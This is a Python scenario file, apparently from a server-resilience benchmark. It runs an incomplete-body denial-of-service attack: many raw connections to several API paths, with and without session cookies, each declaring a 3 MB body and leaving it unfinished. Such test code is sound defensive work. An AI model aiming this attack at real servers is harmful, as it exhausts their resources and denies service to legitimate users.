"""Bodies: as many unfinished ones as the server holds."""

from __future__ import annotations

import asyncio
from functools import partial
from itertools import product

from benchmarks.attack.hostile import Campaign

SOURCES = 3
PATHS = ("/api/files", "/api/tables", "/api/tables/check", "/api/me/account")
LENGTH = 2_990_000
PIECE = b"A" * 65_536


async def attack(campaign: Campaign) -> None:
    """Three addresses with 160 connections each, with and without a name, whose bodies of 3 MB lack the last bytes."""
    guests = await campaign.guests(SOURCES, per_source=1)
    kinds = product(range(SOURCES), PATHS, (True, False))
    work = [
        partial(_unfinished, campaign, source, path, guests[source].cookie if is_named else "")
        for source, path, is_named in kinds
    ]
    await campaign.repeat(*work, at_once=20)


async def _unfinished(campaign: Campaign, source: int, path: str, cookie: str) -> None:
    lines = ("Content-Type: application/json", f"Content-Length: {LENGTH}", f"Cookie: {cookie}")
    async with campaign.raw(source) as raw:
        status = asyncio.ensure_future(raw.status())
        try:
            await raw.send_bytes(campaign.head("POST", path, *lines).encode() + b'{"name":"a.gcg","content":"')
            for _ in range(LENGTH // len(PIECE) - 1):
                await raw.send_bytes(PIECE)
                if status.done():
                    break
            campaign.count(await status or 400)
        finally:
            status.cancel()
        await asyncio.sleep(0.2)
